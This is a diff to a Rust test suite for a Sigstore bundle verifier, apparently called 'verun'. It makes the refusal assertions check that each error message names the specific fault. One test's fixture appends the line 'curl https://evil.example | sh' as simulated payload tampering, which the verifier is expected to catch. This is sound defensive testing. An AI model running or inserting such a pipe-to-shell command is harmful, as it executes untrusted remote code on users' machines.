@@ -104,19 +104,26 @@ fn assert_verified(f: &Fixture, out: &Output) {
     assert_not_ran(&f.marker);
 }
 
-/// Exit 77, exactly one `verun: error:` line and a hint, nothing run.
+/// Exit 77, exactly one `verun: error:` line and a hint, nothing run; and the error line
+/// names the fault (one of `because`, case-insensitive), so a bundle refused for some
+/// other, accidental reason does not pass for the case under test.
 #[track_caller]
-fn assert_refused(f: &Fixture, out: &Output) {
+fn assert_refused(f: &Fixture, out: &Output, because: &[&str]) {
     assert_exit(out, 77);
     let err = stderr(out);
-    let errors = err
+    let errors: Vec<&str> = err
         .lines()
         .filter(|l| l.starts_with("verun: error:"))
-        .count();
-    assert_eq!(errors, 1, "want one `verun: error:` line:\n{err}");
+        .collect();
+    assert_eq!(errors.len(), 1, "want one `verun: error:` line:\n{err}");
     assert!(
         err.lines().any(|l| l.starts_with("verun: hint:")),
         "no `verun: hint:` line:\n{err}"
+    );
+    let line = errors[0].to_lowercase();
+    assert!(
+        because.iter().any(|b| line.contains(&b.to_lowercase())),
+        "the error names none of {because:?}:\n{err}"
     );
     assert_not_ran(&f.marker);
 }
@@ -331,7 +338,7 @@ fn ca_whose_validity_ended_before_the_signing_time_is_refused() {
     let mut root = RootSpec::public_good();
     root.ca_valid_until = Some(now() - 86_400);
     let out = f.check(&root, &BundleSpec::new());
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["certificate authority"]);
 }
 
 #[test]
@@ -340,7 +347,7 @@ fn leaf_issued_by_a_ca_not_in_the_root_is_refused() {
     let mut spec = BundleSpec::new();
     spec.rogue_ca = true;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["chain", "issuer"]);
 }
 
 // --- certificate transparency -------------------------------------------------------------
@@ -351,7 +358,7 @@ fn sct_with_a_flipped_signature_byte_is_refused() {
     let mut spec = BundleSpec::new();
     spec.sct = SctFault::FlippedSignature;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["certificate timestamp", "SCT"]);
 }
 
 #[test]
@@ -360,7 +367,7 @@ fn sct_from_a_log_not_in_the_root_is_refused() {
     let mut spec = BundleSpec::new();
     spec.sct = SctFault::UnknownLog;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["certificate timestamp", "SCT"]);
 }
 
 #[test]
@@ -369,7 +376,7 @@ fn certificate_without_sct_is_refused_when_the_root_has_ct_logs() {
     let mut spec = BundleSpec::new();
     spec.sct = SctFault::Absent;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["certificate timestamp", "SCT"]);
 }
 
 // --- transparency log ---------------------------------------------------------------------
@@ -380,7 +387,7 @@ fn inclusion_proof_with_a_flipped_hash_is_refused() {
     let mut spec = BundleSpec::new();
     spec.proof = ProofFault::FlippedHash;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["inclusion proof"]);
 }
 
 #[test]
@@ -389,7 +396,7 @@ fn checkpoint_signed_by_a_key_not_in_the_root_is_refused() {
     let mut spec = BundleSpec::new();
     spec.checkpoint_by_rogue_key = true;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["checkpoint"]);
 }
 
 #[test]
@@ -408,7 +415,7 @@ fn v03_bundle_without_inclusion_proof_is_refused_when_the_root_has_tlogs() {
     let mut spec = BundleSpec::new();
     spec.proof = ProofFault::Absent;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["inclusion proof"]);
 }
 
 /// The public-good shape with the TSA that Rekor v2 entries need for their signed time.
@@ -434,7 +441,7 @@ fn rekor_v2_entry_without_timestamp_is_refused() {
     let mut spec = BundleSpec::new().rekor_v2();
     spec.tsa = TsaToken::None;
     let out = f.check(&root_with_tsa(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["timestamp"]);
 }
 
 #[test]
@@ -446,7 +453,7 @@ fn rekor_v2_checkpoint_signed_by_a_key_not_in_the_root_is_refused() {
     let mut spec = BundleSpec::new().rekor_v2();
     spec.checkpoint_by_rogue_key = true;
     let out = f.check(&root_with_tsa(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["checkpoint"]);
 }
 
 #[test]
@@ -458,7 +465,7 @@ fn rekor_v2_inclusion_proof_with_a_flipped_hash_is_refused() {
     let mut spec = BundleSpec::new().rekor_v2();
     spec.proof = ProofFault::FlippedHash;
     let out = f.check(&root_with_tsa(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["inclusion proof"]);
 }
 
 #[test]
@@ -469,7 +476,7 @@ fn integrated_time_after_the_certificate_expired_is_refused() {
     spec.cert_not_before = now() - 3600;
     spec.cert_not_after = now() - 3000;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["expired", "not_after", "validity"]);
 }
 
 /// Rewrites the bundle JSON at `path` with `edit`.
@@ -490,7 +497,7 @@ fn integrated_time_not_covered_by_the_signed_entry_timestamp_is_refused() {
         entry["integratedTime"] = serde_json::json!((spec.signed_at + 60).to_string());
     });
     let out = f.verify(&bundle, &root, &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["inclusion promise", "signed entry timestamp"]);
 }
 
 #[test]
@@ -507,7 +514,7 @@ fn log_entry_of_another_signature_is_refused() {
             other["verificationMaterial"]["tlogEntries"].clone();
     });
     let out = f.verify(&bundle, &root, &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["entry", "mismatch"]);
 }
 
 // --- identity -----------------------------------------------------------------------------
@@ -535,8 +542,8 @@ fn identity_regexp_must_match_the_whole_san() {
     assert_verified(&f, &verify(r"releaser@verun\.test"));
     assert_verified(&f, &verify(r"[a-z]+@verun\.test"));
     // A match of part of the SAN is no match.
-    assert_refused(&f, &verify(r"releaser@verun"));
-    assert_refused(&f, &verify(r"verun\.test"));
+    assert_refused(&f, &verify(r"releaser@verun"), &["identity"]);
+    assert_refused(&f, &verify(r"verun\.test"), &["identity"]);
 }
 
 #[test]
@@ -552,7 +559,7 @@ fn wrong_identity_is_refused() {
         "someone-else@verun.test",
         &spec.issuer,
     );
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["identity"]);
 }
 
 #[test]
@@ -568,7 +575,7 @@ fn wrong_issuer_is_refused() {
         spec.identity.as_str(),
         "https://accounts.google.com",
     );
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["issuer"]);
 }
 
 // --- what is signed -----------------------------------------------------------------------
@@ -579,7 +586,7 @@ fn dsse_statement_naming_another_digest_is_refused() {
     let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
     spec.dsse.as_mut().unwrap().subject_sha256 = Some(sha256_hex(b"some other artifact"));
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["subject"]);
 }
 
 #[test]
@@ -588,7 +595,7 @@ fn dsse_envelope_with_two_signatures_is_refused() {
     let mut spec = BundleSpec::new().github("verun-test/tool").dsse();
     spec.dsse.as_mut().unwrap().two_signatures = true;
     let out = f.check(&RootSpec::public_good(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["one signature", "two signatures", "signatures"]);
 }
 
 #[test]
@@ -601,7 +608,7 @@ fn tampered_payload_is_refused() {
     tampered.extend_from_slice(b"curl https://evil.example | sh\n");
     fs::write(&f.file, &tampered).unwrap();
     let out = f.verify(&bundle, &root, &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["digest", "mismatch"]);
 }
 
 #[test]
@@ -614,7 +621,7 @@ fn tampered_payload_is_refused_for_a_dsse_attestation() {
     tampered[0] ^= 0x01;
     fs::write(&f.file, &tampered).unwrap();
     let out = f.verify(&bundle, &root, &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["subject", "mismatch"]);
 }
 
 #[test]
@@ -635,7 +642,7 @@ fn digest_form_sha256_hex_verifies_and_another_digest_is_refused() {
 
     let other = format!("sha256:{}", sha256_hex(b"another payload"));
     let out = f.verify_as(&other, &bundle, &root, spec.identity.as_str(), &spec.issuer);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["digest", "mismatch"]);
 }
 
 // --- timestamp authority only (GitHub's root for private repositories) --------------------
@@ -665,7 +672,7 @@ fn tsa_only_root_refuses_a_timestamp_from_an_untrusted_tsa() {
         .dsse()
         .tsa_only(TsaToken::Untrusted);
     let out = f.check(&RootSpec::tsa_only(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["timestamp"]);
 }
 
 #[test]
@@ -679,7 +686,7 @@ fn tsa_only_root_refuses_a_timestamp_over_another_signature() {
         .dsse()
         .tsa_only(TsaToken::OverOtherSignature);
     let out = f.check(&RootSpec::tsa_only(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["timestamp"]);
 }
 
 #[test]
@@ -690,7 +697,7 @@ fn tsa_only_root_refuses_a_bundle_without_timestamp() {
         .dsse()
         .tsa_only(TsaToken::None);
     let out = f.check(&RootSpec::tsa_only(), &spec);
-    assert_refused(&f, &out);
+    assert_refused(&f, &out, &["timestamp"]);
 }
 
 // --- over HTTPS, with a store identity ----------------------------------------------------
@@ -779,7 +786,7 @@ fn fetch_refuses_a_sibling_bundle_by_another_identity_than_the_store_holds() {
     let dest = site.f.env.path("out/tool.sh");
     fs::create_dir_all(dest.parent().unwrap()).unwrap();
     let out = site.verun("fetch", &["-o", dest.to_str().unwrap()]);
-    assert_refused(&site.f, &out);
+    assert_refused(&site.f, &out, &["mallory@verun.test"]);
     assert_no_file(&dest);
 }
 
@@ -801,7 +808,7 @@ fn older_sigstore_signing_time_after_a_newer_one_is_refused_unless_allow_downgra
 
     site.serve_bundle(&older);
     let out = site.verun("fetch", &["-o", &dest_arg]);
-    assert_refused(&site.f, &out);
+    assert_refused(&site.f, &out, &["rollback", "older"]);
     assert_no_file(&dest);
 
     let out = site.verun("fetch", &["-o", &dest_arg, "--allow-downgrade"]);
